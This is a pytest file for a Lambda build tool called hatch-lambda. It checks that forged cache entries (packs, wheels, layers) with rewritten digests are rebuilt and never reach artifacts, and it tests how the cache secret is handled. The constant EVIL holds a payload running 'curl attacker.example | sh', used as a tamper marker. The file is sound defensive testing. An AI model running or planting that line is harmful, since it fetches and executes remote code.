"""Whoever can write the cache (a CI cache restored from another branch) gets nothing into an artifact.

Real builds of the sdist-app fixture (docopt, only an sdist on the index, built
on this machine; six, a wheel) in subprocesses. The attacker rewrites cache
entries with hatch-lambda's own writers, so every digest stored beside the data
agrees with the forged data; only the seal, made with a secret kept outside the
cache, tells them apart.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from hatch_lambda.cache.seal import SECRET_VARIABLE, cache_secret, secret_path
from hatch_lambda.errors import LambdaBuildError
from hatch_lambda.hashing import file_sha256
from hatch_lambda.packs.deflate import compress
from hatch_lambda.packs.pack import INDEX, load, write

from helpers.builds import digests, fresh_cache, hatchling_build
from helpers.projects import LAYER, copy_fixture, make_wheel

pytestmark = pytest.mark.network

EVIL = b"import os\nos.system('curl attacker.example | sh')\n"


def entries(cache: Path, kind: str) -> list[Path]:
    return sorted(p for p in (cache / kind).glob("*/*") if p.is_dir() and not p.name.startswith("."))


def pack_of(cache: Path, name: str) -> Path:
    for path in entries(cache, "packs"):
        if json.loads((path / INDEX).read_text())["name"] == name:
            return path
    raise AssertionError(f"no pack of {name} in {cache}")


def module_in_layer(out: Path, path: str) -> bytes:
    with zipfile.ZipFile(out / "layer.zip") as archive:
        return archive.read(f"python/{path}")


@pytest.fixture
def built(cache, tmp_path):
    """sdist-app built once into a cache of its own, sealed with this test's secret."""
    project = copy_fixture("sdist-app", tmp_path / "project")
    own = fresh_cache(cache, tmp_path / "cache")
    env = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    first = hatchling_build(project, LAYER, cache=own, env=env)
    return project, own, env, digests(first.out()), first


def test_a_forged_pack_is_made_again(built):
    project, cache, env, before, _ = built
    directory = pack_of(cache, "six")
    pack = load(directory, directory.name)
    assert pack is not None and "six.py" in pack.files
    # The attacker's pack: six.py replaced, index.json (key, data sha256) rewritten to match.
    forged_file = directory.parent / "forged-six.py"
    forged_file.write_bytes(EVIL)
    files = dict(pack.files, **{"six.py": compress(forged_file)})
    forged = directory.parent / ".forged"
    forged.mkdir()
    write(forged, dataclasses.replace(pack, files=files))
    shutil.copyfile(forged / "data", directory / "data")
    shutil.copyfile(forged / INDEX, directory / INDEX)
    assert load(directory, directory.name).files["six.py"].size == len(EVIL)  # consistent as far as it goes
    shutil.rmtree(cache / "layers")  # so the layer is assembled from the packs again

    second = hatchling_build(project, LAYER, cache=cache, env=env)
    assert "cached pack of six==" in second.output and "failed its check; building it again" in second.output
    assert EVIL not in module_in_layer(second.out(), "six.py")
    assert digests(second.out()) == before


def test_a_forged_wheel_built_from_an_sdist_is_made_again(built, tmp_path):
    project, cache, env, before, _ = built
    (entry,) = entries(cache, "built")
    meta = json.loads((entry / "wheel.json").read_text())
    assert meta["file"].startswith("docopt-0.6.2-")
    # The attacker's wheel under the same name, and wheel.json's sha256 rewritten to match.
    forged = make_wheel(tmp_path / "forged", "docopt", "0.6.2", {"docopt.py": EVIL})
    shutil.copyfile(forged, entry / meta["file"])
    meta["sha256"] = file_sha256(entry / meta["file"])
    (entry / "wheel.json").write_text(json.dumps(meta))
    shutil.rmtree(cache / "packs")
    shutil.rmtree(cache / "layers")

    second = hatchling_build(project, LAYER, cache=cache, env=env)
    assert EVIL not in module_in_layer(second.out(), "docopt.py")
    assert digests(second.out()) == before


def test_a_forged_layer_is_made_again(built, tmp_path):
    project, cache, env, before, _ = built
    (entry,) = entries(cache, "layers")
    meta = json.loads((entry / "meta.json").read_text())
    layer = entry / "layer.zip"
    # The attacker's layer: six.py replaced; size, mtime and sha256 in meta.json rewritten to match.
    forged = tmp_path / "forged-layer.zip"
    with zipfile.ZipFile(layer) as original, zipfile.ZipFile(forged, "w") as out:
        for info in original.infolist():
            out.writestr(info, EVIL if info.filename == "python/six.py" else original.read(info))
    layer.unlink()
    shutil.copyfile(forged, layer)
    meta.update(sha256=file_sha256(layer), zipped=layer.stat().st_size, mtime_ns=layer.stat().st_mtime_ns)
    (entry / "meta.json").write_text(json.dumps(meta))
    handler = project / "src" / "sdist_app" / "handler.py"
    handler.write_text(handler.read_text() + "\n# edited\n")  # a code-only change: the layer would be reused

    second = hatchling_build(project, LAYER, cache=cache, env=env)
    assert "layer.zip: dependencies unchanged, reused from the cache" not in second.output
    assert EVIL not in module_in_layer(second.out(), "six.py")
    assert digests(second.out())["layer.zip"] == before["layer.zip"]


def test_a_cache_sealed_under_another_secret_is_made_again_and_the_same_secret_reuses_it(built, tmp_path):
    project, cache, _, before, first = built
    assert "0 distributions reused from the cache, 2 unpacked and deflated" in first.output
    restored = tmp_path / "restored"
    shutil.copytree(cache, restored)  # another machine's cache, restored on this one
    elsewhere = hatchling_build(project, LAYER, cache=restored, args=["-c"], env={SECRET_VARIABLE: "x" * 40})
    assert digests(elsewhere.out()) == before

    other = hatchling_build(project, LAYER, cache=restored, env={SECRET_VARIABLE: "a different secret " * 3})
    assert "0 distributions reused from the cache, 2 unpacked and deflated" in other.output
    assert digests(other.out()) == before
    again = hatchling_build(project, LAYER, cache=restored, env={SECRET_VARIABLE: "a different secret " * 3})
    assert "layer.zip: dependencies unchanged, reused from the cache" in again.output
    assert digests(again.out()) == before


def test_the_secret_is_made_once_and_readable_by_its_owner_only(tmp_path, monkeypatch):
    monkeypatch.delenv(SECRET_VARIABLE, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    cache = tmp_path / "cache"
    # Two processes making it at once agree on one secret.
    script = "import sys; from pathlib import Path; from hatch_lambda.cache.seal import cache_secret; " \
             "sys.stdout.write(cache_secret(Path(sys.argv[1])).decode())"
    runs = [subprocess.Popen([sys.executable, "-c", script, str(cache)], stdout=subprocess.PIPE, env=os.environ)
            for _ in range(4)]
    made = {run.communicate(timeout=60)[0] for run in runs}
    assert len(made) == 1 and len(made.pop()) == 64
    path = secret_path()
    assert path == tmp_path / "config" / "hatch-lambda" / "cache-secret"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert cache_secret(cache) == path.read_text().strip().encode()
    assert [p.name for p in path.parent.iterdir()] == ["cache-secret"]


def test_a_secret_inside_the_cache_or_unreadable_is_an_error(tmp_path, monkeypatch):
    monkeypatch.delenv(SECRET_VARIABLE, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cache"))
    with pytest.raises(LambdaBuildError) as inside:
        cache_secret(tmp_path / "cache")
    assert "would be inside the cache" in inside.value.problem and SECRET_VARIABLE in inside.value.fix

    (tmp_path / "file").write_text("not a directory")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "file"))
    with pytest.raises(LambdaBuildError) as unreadable:
        cache_secret(tmp_path / "cache")
    assert str(tmp_path / "file" / "hatch-lambda" / "cache-secret") in unreadable.value.problem
    assert SECRET_VARIABLE in unreadable.value.fix
